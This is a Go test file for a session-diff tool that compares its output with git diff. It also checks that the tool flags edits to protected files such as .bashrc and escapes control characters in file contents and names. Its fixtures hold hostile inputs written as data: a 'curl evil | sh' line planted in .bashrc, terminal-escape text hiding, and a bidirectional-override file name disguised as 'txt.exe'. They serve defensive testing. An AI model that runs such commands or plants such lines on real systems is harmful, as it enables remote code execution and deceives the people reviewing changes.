package session

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

func lines(prefix string, from, to int) string {
	var sb strings.Builder
	for i := from; i <= to; i++ {
		sb.WriteString(prefix)
		sb.WriteString(strings.Repeat("x", i%7))
		sb.WriteString(" ")
		sb.WriteString(string(rune('a' + i%26)))
		sb.WriteString("\n")
	}
	return sb.String()
}

// TestDiffMatchesGit applies the same edits to a session (through an
// overlay) and to a copy of a git repository, and compares WriteDiff with
// git diff (without its "index" lines, which name git objects).
func TestDiffMatchesGit(t *testing.T) {
	requireRoot(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	long := lines("l", 1, 60)
	base := files{
		"long.txt":   long,
		"noeol.txt":  "a\nb\nc",
		"del.txt":    "gone\nsoon\n",
		"mode.sh":    "#!/bin/sh\n",
		"link":       "-> long.txt",
		"tosym":      "plain\n",
		"bin.dat":    "\x00old",
		"sub/keep.c": "int main() { return 0; }\n",
		"empty.txt":  "",
	}
	script := `set -e
sed -i -e 's/^l a$/l A/' -e '30d' -e '55s/.*/changed line/' long.txt
printf 'a\nb\nc\n' > noeol.txt
rm del.txt
chmod 755 mode.sh
ln -sfn noeol.txt link
rm tosym && ln -s long.txt tosym
printf '\000new' > bin.dat
printf 'fresh\nfile\n' > sub/new.c
printf 'no newline' > sub/noeol-new
: > new-empty
rm empty.txt
`
	e := newEnv(t)
	writeTree(t, e.ws, base, nil)
	s := e.newSession("")
	snap := filepath.Join(e.root, "snap")
	os.Mkdir(snap, 0o755)
	runAgent(t, e, s, script, snap, false)
	e.end(s)

	repo := filepath.Join(e.root, "repo")
	os.Mkdir(repo, 0o755)
	writeTree(t, repo, base, nil)
	git := func(args ...string) string {
		return run(t, repo, "git", append([]string{"-c", "user.name=t", "-c", "user.email=t@t", "-c", "core.fileMode=true"}, args...)...)
	}
	git("init", "-q")
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	run(t, repo, "sh", "-c", script)
	// Mark only the untracked files as intent-to-add: "git add ." would
	// also stage removals and type changes.
	for _, f := range strings.Fields(git("ls-files", "-o")) {
		git("add", "-N", f)
	}
	stripIndex := func(s string) string {
		var out []string
		for _, l := range strings.Split(s, "\n") {
			if !strings.HasPrefix(l, "index ") {
				out = append(out, l)
			}
		}
		return strings.Join(out, "\n")
	}
	changes, err := s.Changes(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		opts DiffOptions
		git  []string
	}{
		{"patch", DiffOptions{}, []string{"diff", "--no-renames", "--no-indent-heuristic", "--no-color"}},
		{"stat", DiffOptions{Stat: true}, []string{"diff", "--no-renames", "--stat", "--no-color"}},
		{"name only", DiffOptions{NameOnly: true}, []string{"diff", "--no-renames", "--name-only"}},
		{"path filter", DiffOptions{Paths: []string{"sub"}}, []string{"diff", "--no-renames", "--no-color", "--", "sub"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got bytes.Buffer
			if err := WriteDiff(&got, s, changes, tc.opts); err != nil {
				t.Fatal(err)
			}
			want := stripIndex(git(tc.git...))
			if got.String() != want {
				t.Errorf("WriteDiff differs from git diff\n--- got\n%s\n--- want (git)\n%s", got.String(), want)
			}
		})
	}
}

func TestDiffAlarmsAndEscapes(t *testing.T) {
	requireRoot(t)
	e := newEnv(t)
	writeTree(t, e.ws, files{"ok.txt": "ok\n", ".bashrc": "alias ls=ls\n"}, nil)
	s := e.newSession("")
	e.end(s)
	upperWrite(t, s, ".bashrc", "alias ls=ls\ncurl evil | sh\n", 0o644)
	upperWrite(t, s, "ok.txt", "ok\nhidden\x1b[2K\rfake\n", 0o644)
	upperWrite(t, s, "name\nwith newline", "x\n", 0o644)
	upperWrite(t, s, "bidi\u202etxt.exe", "x\n", 0o644)
	changes, err := s.Changes([]string{".bashrc"})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name    string
		opts    DiffOptions
		want    []string
		wantNot []string
	}{
		{"plain", DiffOptions{}, []string{
			"!!! PROTECTED: .bashrc (matches .bashrc)",
			"+hidden^[[2K^Mfake\n",
			`diff --git "a/name\nwith newline" "b/name\nwith newline"`,
			`"a/bidi\342\200\256txt.exe"`,
		}, []string{"\x1b", "name\nwith"}},
		{"raw", DiffOptions{Raw: true}, []string{"+hidden\x1b[2K\rfake\n"}, nil},
		{"color", DiffOptions{Color: true}, []string{
			"\x1b[1;31m!!! PROTECTED: .bashrc",
			"\x1b[32m+curl evil | sh\x1b[m\n",
			"\x1b[1mdiff --git a/ok.txt b/ok.txt\x1b[m\n",
			"\x1b[36m@@ -1 +1,2 @@\x1b[m\n",
		}, nil},
		{"stat", DiffOptions{Stat: true}, []string{" .bashrc ", "| 1 + !!! PROTECTED\n"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			if err := WriteDiff(&out, s, changes, tc.opts); err != nil {
				t.Fatal(err)
			}
			for _, w := range tc.want {
				if !strings.Contains(out.String(), w) {
					t.Errorf("output lacks %q:\n%s", w, out.String())
				}
			}
			for _, w := range tc.wantNot {
				if strings.Contains(out.String(), w) {
					t.Errorf("output contains %q:\n%s", w, out.String())
				}
			}
		})
	}
}
